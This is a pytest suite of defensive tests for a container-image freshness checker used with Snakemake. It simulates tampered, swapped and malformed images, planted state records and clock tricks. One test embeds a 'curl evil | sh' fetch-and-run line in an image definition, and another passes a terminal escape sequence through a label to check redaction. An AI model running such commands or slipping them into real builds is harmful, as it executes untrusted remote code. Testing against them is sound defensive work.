"""Attacks on an image in Snakemake's folder, and on what is known of it, one test each.

Each starts from an image that we fetched and know by its stat key. What an attacker did is never `verified`
and, but for the one word that says so little (`bound`), never runs.
"""

from __future__ import annotations

import itertools
import json
import os
import random
import subprocess
from dataclasses import astuple

import pytest

from snakemake_apptainer_freshness.actions import check as module
from snakemake_apptainer_freshness.actions.check import check, check_one
from snakemake_apptainer_freshness.common import files
from snakemake_apptainer_freshness.common.files import StatKey
from snakemake_apptainer_freshness.errors import UsageError
from snakemake_apptainer_freshness.freshness import DiskFact
from snakemake_apptainer_freshness.store import clock, places, state
from tests.support import sifs
from tests.support.pins import OTHER, REPOSITORY, flip_seven_bytes, forget_all, pin, plant_record, put, record, settle


@pytest.fixture
def image(tmp_path):
    path = put(tmp_path / "images", pin())
    record(path, pin())
    settle(path)
    assert fact(path).state == "verified"
    return path


def fact(path) -> DiskFact:
    """What a normal run, and a job's own check, say of the image."""
    (by_check,) = check([pin()], path.parent).values()
    assert by_check.state == check_one(pin(), path).state
    return by_check


# --- The image ----------------------------------------------------------------------------------------------


def test_a_truncated_image(image):
    os.truncate(image, image.stat().st_size - 1)
    assert fact(image).state == "corrupt"


def test_an_emptied_image(image):
    os.truncate(image, 0)
    assert fact(image).state == "corrupt"


def test_a_random_image(image):
    image.write_bytes(random.Random(1).randbytes(image.stat().st_size))
    assert fact(image).state == "corrupt"


def test_seven_flipped_bytes(image):
    flip_seven_bytes(image)
    assert fact(image).state == "altered"


def test_another_valid_image_of_the_same_size_and_label_with_the_old_times(image):
    before = image.stat()
    other = image.with_name("other")
    other.write_bytes(sifs.pulled(f"{REPOSITORY}@{pin().digest}", image_id=b"another image..."))
    assert other.stat().st_size == before.st_size
    os.utime(other, ns=(before.st_atime_ns, before.st_mtime_ns))
    other.replace(image)
    assert fact(image).state == "altered"


def test_another_valid_image_of_another_digest(image):
    image.write_bytes(sifs.pulled(f"{REPOSITORY}@{OTHER}"))
    assert fact(image).state == "altered"
    forget_all()
    assert fact(image).state == "stale"


def test_another_valid_image_pulled_by_a_tag(image):
    image.write_bytes(sifs.pulled(f"{REPOSITORY}:1.0"))
    forget_all()
    assert fact(image).state == "unbound"


def test_an_image_built_on_top_of_the_pinned_one(image):
    definition = f"bootstrap: docker\nfrom: {REPOSITORY}@{pin().digest}\n%post\n curl evil | sh\n"
    image.write_bytes(sifs.pulled(f"{REPOSITORY}@{pin().digest}", definition=definition))
    forget_all()
    assert fact(image).state == "unbound"


def test_a_folder_in_its_place(image):
    image.unlink()
    image.mkdir()
    assert fact(image).state == "corrupt"


def test_a_fifo_in_its_place(image):
    image.unlink()
    os.mkfifo(image)
    assert fact(image).state == "corrupt"


def test_a_symbolic_link_to_elsewhere_in_its_place(image):
    elsewhere = image.parent.parent / "elsewhere"
    image.rename(elsewhere)
    image.symlink_to(elsewhere)
    assert fact(image).state == "corrupt"
    assert fact(image).detail == "not a file but a symbolic link"


def test_a_fifo_swapped_in_while_it_is_looked_at(image, monkeypatch):
    real = os.lstat
    looks = itertools.count(1)

    def swap(path, **how):
        status = real(path, **how)
        if str(path) == str(image) and next(looks) == 2:  # the one right before it is opened
            image.unlink()
            os.mkfifo(image)
        return status

    monkeypatch.setattr(files.os, "lstat", swap)
    forget_all()
    said = check_one(pin(), image)
    assert (said.state, said.detail) == ("corrupt", "not a file but a FIFO")


@pytest.mark.parametrize("mode", [0o777, 0o666, 0o757])
def test_a_world_writable_image(image, mode):
    image.chmod(mode)
    assert fact(image).state == "unbound"
    assert "every user may write it" in fact(image).detail


# --- What lies beside it, and came with the folder ----------------------------------------------------------


EVIL = sifs.pulled(f"{REPOSITORY}@{pin().digest}", content=sifs.squashfs(filler=b"\x66"))


@pytest.fixture
def planted(tmp_path):
    """An image with other content and the right label, in a folder that another user made, for a user who is new."""
    return put(tmp_path / "clone", pin(), EVIL)


def test_an_image_of_which_nothing_is_known(image):
    forget_all()
    assert fact(image).state == "bound"


def test_a_planted_image_with_a_planted_record(planted):
    plant_record(planted, pin())
    assert fact(planted).state == "bound"
    (by_full,) = check([pin()], planted.parent, full=True).values()
    assert by_full.state == "bound"


def test_a_planted_index_of_an_earlier_version(planted):
    record = plant_record(planted, pin())
    key = [*astuple(StatKey.of(record.lstat()))]
    row = [key, pin().url, str(pin().digest), True, [*astuple(StatKey.of(planted.lstat()))]]
    index = {"version": 1, "images": {planted.name: row}}
    (planted.parent / ".freshness-index.json").write_text(json.dumps(index))
    assert fact(planted).state == "bound"


def test_a_planted_state_folder_in_the_clone(planted, monkeypatch):
    """The facts are of the evil bytes, in a folder of the clone; only the user's environment could name it."""
    monkeypatch.setenv("XDG_STATE_HOME", str(planted.parent / ".local" / "state"))
    record(planted, pin())
    settle(planted)
    assert fact(planted).state == "verified"
    monkeypatch.setenv("XDG_STATE_HOME", str(planted.parent.parent / "own"))
    monkeypatch.chdir(planted.parent)
    assert fact(planted).state == "bound"


def test_a_planted_image_with_the_stat_key_of_one_that_was_proven(image):
    """As far as any ``stat`` says it is the proven file, on another host; there every check hashes it."""
    evil = image.with_name("evil")
    evil.write_bytes(sifs.pulled(f"{REPOSITORY}@{pin().digest}", image_id=b"another image..."))
    before = image.stat()
    os.utime(evil, ns=(before.st_atime_ns, before.st_mtime_ns))
    evil.replace(image)
    assert fact(image).state == "altered"


def test_a_record_that_leads_to_another_pin_is_only_a_hint(planted):
    plant_record(planted, pin(OTHER), digest=str(OTHER), pinned=pin(OTHER).url)
    assert fact(planted).state == "bound"


# --- The user's own state folder ----------------------------------------------------------------------------


@pytest.mark.parametrize("mode", [0o777, 0o770, 0o722])
def test_forged_facts_in_a_state_folder_that_others_may_write(planted, mode):
    record(planted, pin())
    settle(planted)
    state.folder().chmod(mode)
    state._checked.cache_clear()
    with pytest.raises(UsageError, match="others may write to the state folder"):
        check([pin()], planted.parent)


def test_a_state_folder_of_somebody_else(planted, monkeypatch):
    record(planted, pin())
    settle(planted)
    monkeypatch.setattr(os, "geteuid", lambda: 4711)
    with pytest.raises(UsageError, match="belongs to user"):
        check([pin()], planted.parent)


def test_a_fact_that_others_may_write(image):
    for path in state.folder().rglob("*.json"):
        path.chmod(0o666)
    assert fact(image).state == "bound"


def test_our_own_facts_are_ours_alone_whatever_the_umask(tmp_path):
    before = os.umask(0)
    try:
        record(put(tmp_path, pin()), pin())
    finally:
        os.umask(before)
    assert {path.stat().st_mode & 0o077 for path in [state.folder(), *state.folder().rglob("*")]} == {0}


# --- Time ---------------------------------------------------------------------------------------------------


def test_an_image_swapped_between_verification_and_the_start_of_a_job(image):
    (before,) = check([pin()], image.parent).values()
    assert before.state == "verified"
    evil = image.with_name("evil")
    evil.write_bytes(sifs.pulled(f"{REPOSITORY}@{pin().digest}", content=sifs.squashfs(filler=b"\x66")))
    subprocess.run(["touch", "-r", image, evil], check=True)
    evil.replace(image)
    assert check_one(pin(), image).state == "altered"


def test_a_change_within_one_tick_of_the_clock_after_hashing(tmp_path, monkeypatch):
    """A file system whose clock ticks every two seconds: the change leaves the stat key as it was."""
    image = put(tmp_path, pin())
    record(image, pin())
    frozen = StatKey.of(image.lstat())
    monkeypatch.setattr(StatKey, "of", classmethod(lambda _cls, _status: frozen))
    monkeypatch.setattr(clock, "time_in", lambda _folder: frozen.ctime_ns + 1_900_000_000)
    assert check_one(pin(), image).state == "verified"
    flip_seven_bytes(image)
    assert check_one(pin(), image).state == "altered"


@pytest.mark.parametrize("step", [-3600, 3600])
def test_our_clock_steps(image, monkeypatch, step):
    """The times of images and of their hashing come from one clock, the file system's; ours plays no part."""
    real = module.clock.time_in
    monkeypatch.setattr(files.time, "time", lambda: 1_000_000_000 + step)
    assert real(image.parent) > 1_500_000_000_000_000_000
    assert fact(image).state == "verified"
    flip_seven_bytes(image)
    assert fact(image).state == "altered"


def test_the_file_systems_clock_steps_back(image, monkeypatch):
    """What was written in a future that is over now is hashed at every check."""
    future = image.stat().st_mtime_ns + 3600 * 10**9
    os.utime(image, ns=(future, future))
    record(image, pin())
    assert fact(image).state == "verified"
    known = places.load(image)
    assert known is not None
    assert known.stat is None
    flip_seven_bytes(image)
    assert fact(image).state == "altered"


# --- Headers ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "hostile",
    [
        sifs.build([], sifs.Header(total=2**62)),
        sifs.build([], sifs.Header(offset=-1)),
        sifs.build([sifs.Object(type=sifs.DEFINITION, content=b"x", offset=2**62, size=2**62)]),
        sifs.build([sifs.Object(type=sifs.JSON, content=b"[" * 200_000, name="inspect-metadata.json"),
                    sifs.Object(type=sifs.PARTITION, content=sifs.squashfs(), extra=sifs.partition_extra())]),
        sifs.build([sifs.Object(type=sifs.PARTITION, content=sifs.squashfs(used=2**63), extra=sifs.partition_extra())]),
    ],
    ids=["count", "table", "object", "json", "squashfs"],
)  # fmt: skip
def test_hostile_headers(image, hostile):
    image.write_bytes(hostile)
    assert fact(image).state == "corrupt"


def test_control_characters_in_labels_do_not_reach_a_terminal(image):
    from snakemake_apptainer_freshness.errors import redact

    image.write_bytes(sifs.pulled("quay.io/x:\x1b]0;owned\x07"))
    forget_all()
    assert fact(image).state == "unbound"
    assert "\x1b" not in fact(image).detail
    assert redact(fact(image).detail) == fact(image).detail
